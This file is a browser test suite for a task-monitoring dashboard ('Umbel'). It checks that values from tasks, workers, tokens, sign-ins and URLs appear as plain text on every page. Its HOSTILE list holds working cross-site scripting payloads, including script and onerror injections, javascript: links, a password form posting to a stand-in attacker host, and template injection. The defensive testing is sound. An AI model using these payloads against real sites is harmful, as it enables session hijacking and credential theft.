// Attacks on whoever looks at a page: values from tasks, workers, strangers and colleagues that would like to be markup. In a real
// browser, on every page there is: no dialog, no script, no complaint of the policy, no request to anywhere else.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { test } from 'node:test';
import { missing, startBrowser, startWorker, suiteScope, until, type WatchedPage } from '@umbel/testkit';
import { basic, bearer, fromElsewhere, openArena, type Visitor } from './arena.ts';
import { publishEvents } from './publish-events.ts';

const { arena } = await openArena();
const absence = (await missing('redis')) || (await missing('browser'));
const browser = absence === false ? await startBrowser(suiteScope()) : null;

/** Where a successful attack would call home. */
const HOME = 'http://127.0.0.2:9';
const DO = 'window.pwned=1';
/** Elements that no page of Umbel has, so any of them came out of a value. */
const FOREIGN =
  'script, iframe, frame, object, embed, img, svg, math, base, link, meta[http-equiv], video, audio, template';

const HOSTILE = [
  ['a script element', `<script>${DO};alert(1);fetch("${HOME}")</script>`],
  ['a script in capitals and a broken tag', `<ScRiPt\n>${DO}</sCrIpT foo`],
  ['a picture that fails', `<img src=x onerror="${DO}">`],
  ['an end of attribute and a drawing', `"><svg onload=${DO}>`],
  ['an end of attribute in single quotes', `' autofocus onfocus='${DO}`],
  ['an attribute of the element it is in', `" onmouseover="${DO}" style="position:fixed;inset:0`],
  ['an end of the style sheet', `</style><script>${DO}</script>`],
  ['ends of title, textarea and noscript', `</title></textarea></noscript><script>${DO}</script>`],
  ['a comment that is left open', `<!-- <script>${DO}</script>`],
  ['a frame with a document of its own', `<iframe srcdoc="<script>parent.${DO}</script>"></iframe>`],
  ['a frame of elsewhere', `<iframe src="${HOME}"></iframe>`],
  ['a link with javascript:', `<a href="javascript:${DO}">click</a>`],
  ['an address with javascript:', `javascript:${DO}//`],
  ['an address of data:', `data:text/html,<script>${DO}</script>`],
  ['a refresh to elsewhere', `<meta http-equiv="refresh" content="0;url=${HOME}/">`],
  ['another base for links', `<base href="${HOME}/">`],
  [
    'a style sheet of elsewhere',
    `<link rel="stylesheet" href="${HOME}/x.css"><style>@import "${HOME}/y.css"</style>`,
  ],
  ['a picture of elsewhere (who looks?)', `<img src="${HOME}/seen.png"><video poster="${HOME}/p"></video>`],
  [
    'a form that sends passwords elsewhere',
    `<form action="${HOME}"><input name=password><button autofocus>Sign in</button></form>`,
  ],
  ['markup of another language', `<math><mtext></form><form><mglyph><style></math><img src onerror=${DO}>`],
  ['a template of a front end', `{{constructor.constructor('${DO}')()}} \${${DO}} <%= ${DO} %> #{${DO}}`],
  [
    'markup that was escaped once already',
    `&lt;script&gt;${DO}&lt;/script&gt;&#60;img src=x onerror=${DO}&#62;`,
  ],
  [
    'markup in full width and with odd spaces',
    `\uff1cscript\uff1e${DO}\uff1c/script\uff1e<img\u000csrc=x\u000conerror=${DO}>`,
  ],
  ['text that turns the direction of reading', `\u202etxt.exe\u2066\u2067\u200f<b>bold</b>`],
  ['an end of JSON in a script', `\u2028</script><script>${DO}</script>"}]}`],
] as const;

/** Opens a page and lets it settle; then nothing of the attack may have happened. */
async function visit(
  { page, complaints, requests }: WatchedPage,
  url: string,
  shown?: string,
): Promise<void> {
  assert.ok(arena);
  const response = await page.goto(url, { waitUntil: 'load' });
  assert.ok(response && response.status() < 500, `${url} was answered ${response?.status()}`);
  assert.equal(response.headers()['x-content-type-options'], 'nosniff', url);
  assert.equal(page.url(), new URL(url).href);
  assert.equal(await page.evaluate('window.pwned'), undefined, url);
  if (response.headers()['content-type']?.startsWith('text/html') === true)
    assert.equal(await page.locator(FOREIGN).count(), 0, `${url} has an element that is none of its own`);
  if (shown !== undefined) {
    const text = (await page.locator('body').textContent()) ?? '';
    assert.ok(text.includes(shown.replace(/[\0\f\r]/g, '')), `${url} does not show ${JSON.stringify(shown)}`);
  }
  // A complaint of the policy would mean that there was something to stop. Chromium says of its own that an answer was 4xx.
  assert.deepEqual(
    complaints.filter((text) => !/the server responded with a status of 4\d\d/.test(text)),
    [],
    url,
  );
  const foreign = requests.filter((request) => new URL(request).origin !== arena.umbel.url);
  assert.deepEqual(foreign, [], url);
}

/** A page whose browser is signed in. */
async function signedInPage(
  t: Parameters<NonNullable<typeof browser>['openPage']>[0],
  visitor: Visitor,
): Promise<WatchedPage> {
  assert.ok(arena && browser);
  const watched = await browser.openPage(t);
  const [name = '', value = ''] = visitor.cookie.split('=');
  await watched.page.context().addCookies([{ name, value, url: arena.umbel.url }]);
  return watched;
}

for (const [what, value] of HOSTILE) {
  test(`${what} in every field of a task and its worker stays text on every page`, {
    skip: absence,
  }, async (t) => {
    assert.ok(arena);
    const { umbel, redis, signIn } = arena;
    // Names with control characters are not taken in at all (input-attacks).
    const plain = value.replace(/\p{Cc}/gu, ' ');
    const uuid = `${randomUUID()}${plain}`.slice(0, 200);
    const hostname = `${plain}@${randomUUID()}`;
    const common = { hostname, sw_ident: value, sw_ver: value, sw_sys: value };
    await publishEvents(redis, [
      { type: 'worker-online', ...common, freq: 2, active: 1, processed: 1, loadavg: [1, 1, 1] },
      {
        type: 'task-sent',
        ...common,
        uuid,
        name: plain,
        args: value,
        kwargs: value,
        queue: value,
        exchange: value,
        routing_key: value,
        root_id: value,
        parent_id: value,
      },
      {
        type: 'task-received',
        ...common,
        uuid,
        name: plain,
        args: `('${value}',)`,
        kwargs: `{'${value}': '${value}'}`,
        eta: value,
      },
      { type: 'task-started', ...common, uuid },
      { type: 'task-failed', ...common, uuid, exception: `ValueError('${value}')`, traceback: value },
    ]);
    const visitor = await signIn('ada');
    const info = `/api/task/info/${encodeURIComponent(uuid)}`;
    await until(async () => (await umbel.get(info, { headers: visitor.headers })).json.state === 'FAILURE', {
      what: 'the task to be known',
    });
    const watched = await signedInPage(t, visitor);
    await visit(watched, `${umbel.url}/`, plain);
    // Opened as if they were pages, which a link can do.
    for (const path of [
      '/api/tasks?limit=3',
      '/api/workers',
      '/api/task/types',
      new URL(info, umbel.url).pathname,
    ])
      await visit(watched, umbel.url + path);
  });
}

test('what a real worker was given and gave back stays text on every page', { skip: absence }, async (t) => {
  assert.ok(arena);
  const { umbel, redis, signIn } = arena;
  await startWorker(t, { brokerUrl: redis.url, resultBackend: redis.url });
  const visitor = await signIn('ada');
  const values = HOSTILE.map(([, value]) => value);
  const send = async (task: string, body: unknown): Promise<string> => {
    const headers = { ...visitor.headers, 'content-type': 'application/json' };
    const reply = await umbel.post(`/api/task/send-task/${task}`, JSON.stringify(body), { headers });
    assert.equal(reply.status, 200, reply.text);
    return reply.json['task-id'] ?? '';
  };
  const ids = [
    await send('shop.echo', {
      args: values,
      kwargs: Object.fromEntries(values.map((value) => [value, value])),
    }),
    await send('shop.fail', { args: [values.join('\n')] }),
    await send(values[0] ?? '', { args: values }),
  ];
  const watched = await signedInPage(t, visitor);
  for (const id of ids.slice(0, 2)) {
    await until(
      async () =>
        /SUCCESS|FAILURE/.test(
          (await umbel.get(`/api/task/info/${id}`, { headers: visitor.headers })).json.state ?? '',
        ),
      { timeoutMs: 30_000, what: 'the task to end' },
    );
    await visit(watched, `${umbel.url}/api/task/info/${id}`);
    await visit(watched, `${umbel.url}/api/task/result/${id}`);
  }
  await visit(watched, `${umbel.url}/`);
});

test('names of tokens and of browsers stay text on the account page, and a colleague’s on the audit page', {
  skip: absence,
}, async (t) => {
  assert.ok(arena);
  const { umbel, signIn } = arena;
  const visitor = await signIn('ada');
  const colleague = await signIn('olga');
  for (const [, value] of HOSTILE) {
    const name = value.replace(/\p{C}/gu, '').slice(0, 100);
    const body = JSON.stringify({ name, rights: 'view' });
    const json = { 'content-type': 'application/json' };
    for (const { headers } of [visitor, colleague])
      assert.equal(
        (await umbel.post('/api/v1/tokens', body, { headers: { ...headers, ...json } })).status,
        201,
        name,
      );
    await umbel.post('/api/v1/session', JSON.stringify({ name: 'ada', password: 'pw-ada' }), {
      headers: { ...json, ...fromElsewhere(), 'user-agent': value.replace(/[^\x20-\x7e]/g, '') },
    });
    await umbel.post(`/api/task/revoke/${encodeURIComponent(name)}`, '{}', {
      headers: { ...colleague.headers, ...json },
    });
  }
  const watched = await signedInPage(t, visitor);
  await visit(watched, `${umbel.url}/account`, HOSTILE[0][1]);
  await visit(watched, `${umbel.url}/audit`, HOSTILE[0][1]);
  // In the fields of the search.
  for (const [, value] of HOSTILE.slice(0, 8)) {
    const query = new URLSearchParams({ q: value.slice(0, 200), who: value.slice(0, 200), target: value });
    await visit(watched, `${umbel.url}/audit?${query.toString()}`);
  }
});

test('what strangers try to sign in with stays text on the audit page', { skip: absence }, async (t) => {
  assert.ok(arena);
  const { umbel, signIn } = arena;
  for (const [, value] of HOSTILE) {
    const latin = value.replace(/[^\x20-\x7e]/g, '');
    const headers = { ...fromElsewhere(), 'user-agent': latin };
    await umbel.post('/login', new URLSearchParams({ name: value, password: value }), {
      headers,
      redirect: 'manual',
    });
    await umbel.get('/api/tasks', { headers: { ...headers, ...basic(value, value) } });
    await umbel.get('/api/tasks', { headers: { ...headers, ...bearer(latin.replaceAll(' ', '')) } });
  }
  const watched = await signedInPage(t, await signIn('ada'));
  await visit(watched, `${umbel.url}/audit?outcome=refused`, HOSTILE[0][1]);
});

test('the sign-in page says a wrong name, a next path and a query again as text', {
  skip: absence,
}, async (t) => {
  assert.ok(arena && browser);
  const { umbel } = arena;
  const watched = await browser.openPage(t, { extraHTTPHeaders: fromElsewhere() });
  for (const [, value] of HOSTILE) {
    for (const names of [
      ['next', 'failed', value],
      ['error', 'error_description', 'state', 'iss'],
    ]) {
      const query = new URLSearchParams(names.map((name) => [name, value])).toString();
      await visit(watched, `${umbel.url}/login?${query}`);
    }
  }
  const { page } = watched;
  const [, value] = HOSTILE[3];
  await page.goto(`${umbel.url}/login`);
  await page.fill('input[name=name]', value);
  await page.fill('input[name=password]', 'wrong');
  await page.click('form button');
  await page.waitForLoadState('load');
  assert.equal(await page.inputValue('input[name=name]'), value);
  assert.equal(await page.locator(FOREIGN).count(), 0);
  assert.equal(await page.evaluate('window.pwned'), undefined);
});

test('an error page says a path again as text', { skip: absence }, async (t) => {
  assert.ok(arena);
  const watched = await signedInPage(t, await arena.signIn('vera'));
  for (const [, value] of HOSTILE) {
    const tail = encodeURIComponent(value);
    for (const path of [
      `/${tail}`,
      `/api/${tail}`,
      `/api/task/info/${tail}`,
      `/api/docs/${tail}`,
      `/api/tasks?limit=${tail}`,
    ])
      await visit(watched, arena.umbel.url + path);
  }
});

test('the API page runs its own scripts alone, and calls nobody else', { skip: absence }, async (t) => {
  assert.ok(arena);
  const { umbel, signIn } = arena;
  const { page, complaints, requests } = await signedInPage(t, await signIn('vera'));
  await page.goto(`${umbel.url}/api/docs/`);
  await page.waitForSelector('.opblock');
  for (const query of [
    `?url=${HOME}/evil.json`,
    `?configUrl=${HOME}/evil.json`,
    `#/${encodeURIComponent(HOSTILE[0][1])}`,
  ]) {
    await page.goto(`${umbel.url}/api/docs/${query}`, { waitUntil: 'networkidle' });
    assert.equal(await page.evaluate('window.pwned'), undefined);
  }
  assert.deepEqual(complaints, []);
  assert.deepEqual(
    requests.filter((url) => !url.startsWith(`${umbel.url}/`) && !url.startsWith('data:')),
    [],
  );
});
